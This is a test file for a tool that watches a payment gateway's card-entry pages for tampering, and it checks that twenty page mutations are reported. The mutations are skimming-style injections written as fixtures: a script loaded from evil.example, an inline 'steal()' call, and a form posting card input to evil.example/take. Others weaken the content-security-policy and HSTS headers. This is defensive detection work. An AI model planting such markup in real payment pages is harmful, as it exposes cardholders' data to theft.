import { spawn } from 'node:child_process'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { portalOf } from '../src/gateway/test-support/apis/test-checkout.ts'
import { openInvoiceClient } from '../src/gateway/test-support/apis/test-invoices.ts'
import { createPayPageClient } from '../src/gateway/test-support/pay-page-client.ts'
import { openTestGateway, type TestGateway } from '../src/gateway/test-support/test-gateway.ts'
import { root } from './bootstrap.mjs'
import { openPaths } from './watch-pages/expected.mjs'
import { inventoryOfCode, readInventory } from './watch-pages/inventory.mjs'
import { lookAt, lookAtLibraries } from './watch-pages/look.mjs'

const inventory = readInventory()
const origin = 'https://gateway.example'
let gateway: TestGateway
let checkout: string
let payPage: string
let invoicePage: string
beforeAll(async () => {
  gateway = await openTestGateway('sqlite')
  const { profileId } = await portalOf(gateway).provision()
  checkout = `${origin}/hosted/?${new URLSearchParams({ terminal_profile_id: profileId, amount: '149.99' })}`
  payPage = origin + (await createPayPageClient(gateway).open(await gateway.provision(), { TRAN_NBR: '1' }))
  const { created } = await openInvoiceClient(gateway)
  invoicePage = origin + (await created()).path
})
afterAll(() => gateway.close())

type Fetch = (address: string) => Promise<Response>
const fetchHere: Fetch = async address => {
  const { pathname, search } = new URL(address)
  return gateway.app.request(pathname + search)
}
const card = (field = 0) => origin + openPaths[field]
const shops = ['https://shop.example']
const look = (address: string, fetch: Fetch = fetchHere): Promise<string[]> =>
  lookAt(address, { inventory, fetch, shops })

test('the inventory is that of the code, with a reason for each script: npm run watch-pages -- --write', async () => {
  expect(inventory).toEqual(await inventoryOfCode())
  const { pages, libraries } = inventory as {
    pages: Record<string, { scripts: { reason: string }[] }>
    libraries: { reason: string }[]
  }
  for (const { reason } of [...Object.values(pages).flatMap(({ scripts }) => scripts), ...libraries])
    expect(reason).toMatch(/^[A-Z].{20,}\.$/)
})

test('20 looks at clean pages say nothing', async () => {
  const addresses = [...openPaths.map((path: string) => origin + path), checkout, payPage, invoicePage]
  const looks = Array.from({ length: 20 }, (_, at) => addresses[at % addresses.length] ?? '')
  for (const address of looks) expect([address, await look(address)]).toEqual([address, []])
  expect(await lookAtLibraries(origin, { inventory, fetch: fetchHere })).toEqual([])
})

/** The same answers, but for what somebody changed in one of them on its way. */
function changing(isMeant: (path: string) => boolean, change: (body: string, headers: Headers) => string): Fetch {
  return async address => {
    const response = await fetchHere(address)
    if (!isMeant(new URL(address).pathname)) return response
    const headers = new Headers(response.headers)
    const body = change(await response.text(), headers)
    return new Response(body, { status: response.status, headers })
  }
}
const isPage = (path: string) => !path.startsWith('/assets/')
const isScript = (path: string) => path.endsWith('.js')
const inPage = (change: (page: string) => string) => changing(isPage, change)
const inHead = (markup: string) => inPage(page => page.replace('</head>', `${markup}</head>`))
const inBody = (markup: string) => inPage(page => page.replace('</body>', `${markup}</body>`))
const header = (name: string, change: (value: string) => string | undefined) =>
  changing(isPage, (page, headers) => {
    const value = change(headers.get(name) ?? '')
    if (value === undefined) headers.delete(name)
    else headers.set(name, value)
    return page
  })
const policy = 'content-security-policy'

const mutations: [string, Fetch, RegExp][] = [
  ['one byte more in a script', changing(isScript, body => `${body}\n`), /has changed/],
  ['a script that was exchanged', changing(isScript, () => 'steal()'), /has changed/],
  ['a script of another site', inHead('<script src="https://evil.example/x.js"></script>'), /not in the inventory/],
  ['a script in the page', inBody('<script>steal()</script>'), /is in the page/],
  ['a script that is not loaded any more', inPage(page => page.replace(/<script [^>]*><\/script>/, '')), /any more/],
  [
    'a script without its integrity',
    inPage(page => page.replace(/(<script [^>]*?) integrity="[^"]*"/, '$1')),
    /without/,
  ],
  ['a handler in the markup', inBody('<img src="/assets/x" onerror="steal()">'), /has onerror/],
  ['a link that is a script', inBody('<a href="javascript:steal()">Pay</a>'), /is a script/],
  ['a frame', inBody('<iframe src="https://evil.example/"></iframe>'), /element iframe/],
  ['another base of all addresses', inHead('<base href="https://evil.example/">'), /element base/],
  ['a page that leads elsewhere', inHead('<meta http-equiv="refresh" content="0;url=https://evil.example/">'), /meta/],
  [
    'a style sheet of another site',
    inHead('<link rel="stylesheet" href="https://evil.example/x.css">'),
    /a link loads/,
  ],
  ['another form', inBody('<form action="https://evil.example/take"><input name="card"></form>'), /a form leads to/],
  ['a button with a target', inBody('<button formaction="https://evil.example/take">Pay</button>'), /a form leads to/],
  ['no policy', header(policy, () => undefined), /policy is gone/],
  [
    'a policy that allows scripts in the page',
    header(policy, text => text.replace(/script-src [^;]+/, "$& 'unsafe-inline'")),
    /script-src is/,
  ],
  [
    'a policy that allows another site',
    header(policy, text => text.replace(/connect-src [^;]+/, '$& https://evil.example')),
    /connect-src is/,
  ],
  [
    'a policy with another form target',
    header(policy, text => text.replace(/form-action [^;]+/, '$& https://evil.example')),
    /form-action is/,
  ],
  ['no HSTS', header('strict-transport-security', () => undefined), /strict-transport-security is gone/],
  ['a referrer that tells everything', header('referrer-policy', () => 'unsafe-url'), /referrer-policy is/],
]

describe('20 of 20 changes are said', () => {
  test('there are twenty', () => expect(mutations).toHaveLength(20))

  test.each(mutations)('%s', async (_, fetch, says) => {
    for (const address of [checkout, card()]) expect((await look(address, fetch)).join('\n')).toMatch(says)
  })
})

test('what is added to a page without a script, or to a library, is said as well', async () => {
  const added = inHead('<script src="https://evil.example/x.js"></script>')
  for (const address of [payPage, invoicePage]) expect(await look(address, added)).toHaveLength(1)
  const changed = changing(
    path => path === '/hosted/button.js',
    body => `${body};steal()`,
  )
  expect(await lookAtLibraries(origin, { inventory, fetch: changed })).toEqual(['/hosted/button.js has changed'])
  expect(await look(`${origin}/`)).toEqual(['/ is no page where cards are typed'])
  expect(await look(payPage.slice(0, -1))).toEqual([expect.stringMatching(/^answered with 4/)])
})

describe('the command', () => {
  let server: Server
  let isChanged = false
  beforeAll(async () => {
    server = createServer(async (request, response) => {
      const answer = await gateway.app.request(request.url ?? '/')
      const body = Buffer.from(await answer.arrayBuffer())
      response.writeHead(answer.status, Object.fromEntries(answer.headers))
      response.end(isChanged && request.url === '/hosted/post.js' ? `${body};steal()` : body)
    }).listen(0, '127.0.0.1')
    await new Promise(resolve => server.once('listening', resolve))
  })
  afterAll(() => server.close())
  const run = async (...more: string[]) => {
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    const pages = more.map(page => page.replace(origin, url))
    const program = spawn(process.execPath, [join(root, 'tools/watch-pages.mjs'), url, ...pages])
    const ended = new Promise(resolve => program.once('exit', resolve))
    return [await text(program.stdout), await ended]
  }

  test('ends with 0 where nothing has changed, with 1 and a sentence where something has', async () => {
    expect(await run(checkout)).toEqual([expect.stringContaining('nothing has changed'), 0])
    isChanged = true
    expect(await run(checkout)).toEqual([expect.stringContaining('/hosted/post.js has changed'), 1])
  })
})
